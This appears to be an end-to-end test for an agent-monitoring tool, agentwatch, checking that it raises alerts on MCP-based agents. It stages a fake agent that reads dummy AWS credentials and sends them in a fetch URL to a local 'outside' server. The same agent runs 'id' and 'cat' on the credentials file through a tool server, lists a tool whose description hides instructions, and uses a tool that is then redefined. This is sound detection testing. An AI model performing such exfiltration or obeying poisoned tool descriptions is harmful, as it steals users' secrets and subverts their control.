#!/usr/bin/env python3
"""e2e: the anomaly engine on live processes, read back through
`agentwatch alerts --json` and `alert ID --json`.

One agent (an @modelcontextprotocol/sdk client), no watch rule:
  1. reads a (fake) ~/.aws/credentials through server-filesystem, then
     passes what it read to a fetch tool that GETs it from a web server on
     127.0.0.2 (a local rules file narrows the egress allow-list to
     127.0.0.1, so this counts as leaving):     sensitive-read-then-egress
     and, with the key in the URL:              secret-in-tool-arguments,
     seen again in the bytes sent:              secret-sent-out
     the file's content moving (fingerprints):  sensitive-data-sent-out,
                                                cross-server-toxic-flow
  2. has that tool server run a shell command:  server-spawns-shell
  3. lists a tool whose description carries hidden instructions:
                                                tool-description-poisoning
  4. has the tool server, started with the project directory as its root,
     cat a file outside it:                     server-out-of-scope
     (the test's rules add its temporary directory to scope_areas)
  5. uses a tool that is then redefined, and lists again:
                                                tool-definition-changed,
                                                tool-changed-after-use
A second, benign agent edits files through server-filesystem and must
raise nothing. The alerts are also in the store after the daemon stops.

Exit 77 = skipped (not root, or node/npm packages missing), unless
AGENTWATCH_REQUIRE_BPF=1.
"""
import json
import os
import signal
import sqlite3
import subprocess

from awtest import (MODULES, TESTS, begin, check, cli_json, fake_aws_credentials, finish_run,
                    outside_web, start_daemon, wait_for, write_file)

HERE = os.path.dirname(os.path.abspath(__file__))
CLIENT = os.path.join(HERE, "mcp_client.mjs")
TOOL_SERVER = os.path.join(HERE, "tool_server.mjs")
FS = os.path.join(MODULES, "server-filesystem", "dist", "index.js")


def main():
    bindir, cli, tmp, endpoint = begin("aw-alerts-e2e-")
    state = os.path.join(tmp, "state")
    creds = fake_aws_credentials(os.path.join(tmp, "home"))
    project = os.path.join(tmp, "project")
    write_file(os.path.join(project, "README.md"), "# demo\n")
    rules = os.path.join(tmp, "rules.d")
    write_file(os.path.join(rules, "10-test.yaml"),
               "lists:\n  egress_allow: [\"127.0.0.1/32\"]\n"
               f"  scope_areas: {{append: [\"{tmp}/**\"]}}\n")
    procs = []

    # The "outside" web server: 127.0.0.2 (loopback, but not allow-listed).
    web, port = outside_web()

    aw = cli_json(cli, endpoint)

    try:
        daemon = start_daemon(bindir, endpoint, os.path.join(tmp, "daemon.log"),
                              "--state-dir", state, "--rules-dir", rules, "--log-level", "info")
        procs.append(daemon)

        # The benign agent first: edits in a project, lists it, reads it.
        benign = subprocess.run(
            ["node", CLIENT, "stdio", "node", FS, project],
            env=dict(os.environ, CALLS=json.dumps([
                {"tool": "read_text_file", "arguments": {"path": os.path.join(project, "README.md")}},
                {"tool": "write_file", "arguments": {"path": os.path.join(project, "notes.md"),
                                                     "content": "todo\n"}},
                {"tool": "list_directory", "arguments": {"path": project}},
            ])), capture_output=True, text=True, timeout=60, cwd=TESTS)
        check(benign.returncode == 0, f"benign agent: {benign.stderr[-500:]}")

        url = f"http://127.0.0.2:{port}/collect?d={{{{previous}}}}"
        attack = subprocess.run(
            ["node", CLIENT, "stdio", "node", FS, tmp],
            env=dict(os.environ,
                     CALLS=json.dumps([{"tool": "read_text_file", "arguments": {"path": creds}}]),
                     THEN_STDIO=f"node {TOOL_SERVER} --poison --rugpull {project}",
                     THEN_CALLS=json.dumps([
                         {"tool": "fetch_url", "arguments": {"url": url}},
                         {"tool": "run_command", "arguments": {"command": "id"}},
                         {"tool": "run_command", "arguments": {"command": f"cat {creds}"}},
                         {"tool": "note", "arguments": {"text": "hello"}},
                         {"list": True},
                         {"listPrompts": True},
                     ])),
            capture_output=True, text=True, timeout=60, cwd=TESTS)
        check(attack.returncode == 0, f"attacking agent: {attack.stderr[-500:]}")
        report = json.loads(attack.stdout.strip().splitlines()[-1]) if attack.stdout else {}
        agent_pid = report.get("pid")

        want = {"sensitive-read-then-egress", "secret-in-tool-arguments", "secret-sent-out",
                "server-spawns-shell",
                "sensitive-data-sent-out", "cross-server-toxic-flow",
                "tool-description-poisoning", "tool-definition-changed",
                "tool-changed-after-use", "server-out-of-scope"}

        def have():
            now = aw("alerts")
            got = {x["rule_id"] for x in now}
            poisonings = sum(x["rule_id"] == "tool-description-poisoning" for x in now)
            return got if want <= got and poisonings >= 2 else None
        try:
            wait_for(have, 30, "the alerts")
        except SystemExit:
            pass
        alerts = aw("alerts")
        by_rule = {x["rule_id"]: x for x in alerts}
        for r in sorted(want):
            check(r in by_rule, f"alert {r} raised (got {sorted(by_rule)})")
        extra = [x for x in alerts if x["rule_id"] not in want and
                 x["severity"] in ("medium", "high", "critical")]
        check(not extra, f"no other medium+ alerts (benign agent included): {extra}")

        exfil = by_rule.get("sensitive-read-then-egress", {})
        check(exfil.get("agent_pid") == agent_pid, f"exfiltration alert names the agent: {exfil}")
        ev = exfil.get("evidence", [])
        check(len(ev) >= 2 and ev[0].get("signal") == "sensitive_read" and
              ev[0].get("fields", {}).get("path") == creds,
              f"its first evidence is the read of {creds}: {ev[:1]}")
        check(any(e.get("signal") == "egress" and
                  e.get("fields", {}).get("target") == f"127.0.0.2:{port}" for e in ev),
              f"its evidence has the connection to 127.0.0.2:{port}: {ev}")
        check(exfil.get("attack") and exfil.get("response") and exfil.get("summary"),
              "it carries ATT&CK ids, a summary and a response")
        shell = by_rule.get("server-spawns-shell", {})
        check("id" in shell.get("summary", ""), f"the shell alert shows the command: {shell}")
        scope = by_rule.get("server-out-of-scope", {})
        check(scope.get("evidence", [{}])[0].get("fields", {}).get("path") == creds and
              scope.get("evidence", [{}])[0].get("fields", {}).get("roots") == project,
              f"the out-of-scope alert names the file and the root: {scope}")
        poisoned = {x.get("evidence", [{}])[0].get("fields", {}).get("tool"): x for x in alerts
                    if x["rule_id"] == "tool-description-poisoning"}
        check("add" in poisoned, f"the poisoning alert names the tool: {sorted(poisoned)}")
        prompt = poisoned.get("prompt summarize", {})
        check("arguments.description" in prompt.get("summary", ""),
              f"a poisoned prompt's argument is an alert that names the field: {prompt}")
        if exfil.get("id"):
            one = aw("alert", str(exfil["id"]))
            check(one and one[0].get("id") == exfil["id"], "alert ID --json gives it back")
        alerted = {c["id"] for c in aw("chains", "--has-alerts")}
        check(exfil.get("chain_id") in alerted and
              len(alerted) < len({c["id"] for c in aw("chains")}),
              f"chains --has-alerts lists the attacking agent's chain, not the benign one: {alerted}")
        # Every server gets a baseline, learning (24 h by default).
        profiles = aw("baseline")
        tool_profile = [b for b in profiles if b.get("server_name") == "tool-server"]
        check(tool_profile and tool_profile[0].get("state") == "learning" and
              any(f.get("kind") == "exe" for f in tool_profile[0].get("features", [])),
              f"the tool server's baseline is learning, with the programs it ran: {profiles}")
        rules_listed = aw("rules")
        check(any(r.get("id") == "server-spawns-shell" for r in rules_listed),
              "rules lists the built-in pack")

        daemon.send_signal(signal.SIGTERM)
        daemon.wait(timeout=30)
        con = sqlite3.connect(os.path.join(state, "agentwatch.db"))
        stored = {r[0] for r in con.execute("SELECT rule_id FROM alerts")}
        check(want <= stored, f"the alerts are in the store: {sorted(stored)}")
        nb = con.execute("SELECT COUNT(*) FROM baselines").fetchone()[0]
        check(nb >= 2, f"the baselines are in the store ({nb})")
        con.close()
    finally:
        web.shutdown()
        rc = finish_run(procs, tmp, "alerts e2e")
    return rc


if __name__ == "__main__":
    raise SystemExit(main())
